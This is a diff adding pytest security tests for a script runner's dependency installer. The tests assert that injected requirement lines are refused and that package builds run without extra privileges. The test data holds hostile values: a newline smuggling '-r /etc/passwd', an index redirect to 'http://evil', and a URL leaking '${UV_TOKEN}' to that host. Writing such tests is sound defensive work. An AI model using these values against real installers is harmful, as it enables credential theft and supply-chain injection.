@@ -8,7 +8,9 @@ import pytest
 from sqlalchemy import select
 
 from app.database import schema
+from app.plugin.task import TaskFailed
 from tests.conftest import make_driver
+from workers.script import dependencies
 
 FLOW = """
 id: python
@@ -87,6 +89,34 @@ def test_an_option_among_the_dependencies_is_refused(driver):
 
     assert driver.state(execution) == "FAILED"
     assert "must not hold options" in " ".join(driver.messages(execution))
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["six\n-r /etc/passwd", " --index-url=http://evil", "x @ http://evil/${UV_TOKEN}", "a\\"],
+)
+def test_a_dependency_is_one_requirement_and_shows_no_variable_of_the_worker(line):
+    with pytest.raises(TaskFailed, match="`dependencies`"):
+        dependencies.install(None, ["six", line], "3.11", is_cached=True, is_foreign=False)
+
+
+@pytest.mark.parametrize("is_shared", [False, True])
+def test_a_package_is_built_only_by_a_user_that_scripts_have_anyway(driver, tmp_path, is_shared):
+    """A build runs what the package says, and the worker's user is more than a script's."""
+    settings = driver.rt.settings.model_copy(update={"runners_process_shared_user": is_shared})
+    object.__setattr__(driver.rt, "settings", settings)
+    trace, package = tmp_path / "trace", tmp_path / "package"
+    package.mkdir()
+    (package / "pyproject.toml").write_text(
+        '[build-system]\nrequires = []\nbuild-backend = "b"\nbackend-path = ["."]\n'
+        '[project]\nname = "package"\nversion = "1"\n'
+    )
+    (package / "b.py").write_text(f"open({str(trace)!r}, 'w')\n")
+
+    execution = script(driver, ["print(1)"], f"dependencies: ['package @ file://{package}']")
+
+    assert "could not be installed" in " ".join(driver.messages(execution))
+    assert trace.exists() is is_shared
 
 
 def test_literals_of_json_are_known_and_tracebacks_keep_their_lines(driver):
